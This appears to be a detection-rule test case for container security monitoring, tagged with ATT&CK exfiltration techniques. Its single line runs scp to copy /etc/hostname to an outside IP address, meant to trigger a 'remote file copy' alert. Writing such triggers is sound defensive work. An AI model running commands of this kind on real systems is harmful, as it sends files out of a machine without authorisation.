# title: a file is copied to another machine
# attack: T1048.002 T1021.004
# rule: Launch Remote File Copy Tools in Container
# workload: toolbox
# through: command
# shows: process scp
scp -q /etc/hostname 203.0.113.7:/tmp/
